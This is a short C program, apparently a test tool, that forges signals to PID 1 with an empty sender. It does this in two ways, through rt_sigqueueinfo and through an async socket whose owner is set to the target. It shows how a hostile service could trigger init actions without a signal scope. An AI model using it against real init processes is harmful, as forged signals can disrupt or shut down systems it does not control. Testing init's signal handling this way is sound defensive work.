/*
 * What a hostile service without a signal scope could do to PID 1: asks it for something by a
 * signal whose siginfo names nobody.
 *
 *   tool_forge queue|socket PID SIGNAL
 *
 * queue: rt_sigqueueinfo(2) with a sender of 0. socket: the kernel sends it, when a socket that is
 * said to be of that process has something to read; who said so is not in it.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static long by_queue(pid_t pid, int signal)
{
    siginfo_t info = { .si_signo = signal, .si_code = SI_QUEUE };

    return syscall(SYS_rt_sigqueueinfo, pid, signal, &info);
}

static long by_socket(pid_t pid, int signal)
{
    int pair[2];

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 || fcntl(pair[0], F_SETSIG, signal) < 0 ||
        fcntl(pair[0], F_SETOWN, pid) < 0 || fcntl(pair[0], F_SETFL, O_ASYNC) < 0)
        return -1;
    return write(pair[1], "x", 1) == 1 ? 0 : -1;
}

int main(int argc, char **argv)
{
    pid_t pid = argc == 4 ? (pid_t)strtol(argv[2], NULL, 10) : 0;
    int signal = argc == 4 ? (int)strtol(argv[3], NULL, 10) : 0;
    long result;

    if (pid <= 0 || signal <= 0) {
        fputs("usage: tool_forge queue|socket PID SIGNAL\n", stderr);
        return EXIT_FAILURE;
    }
    result = strcmp(argv[1], "queue") == 0 ? by_queue(pid, signal) : by_socket(pid, signal);
    if (result < 0)
        perror("tool_forge");
    return result < 0 ? EXIT_FAILURE : EXIT_SUCCESS;
}
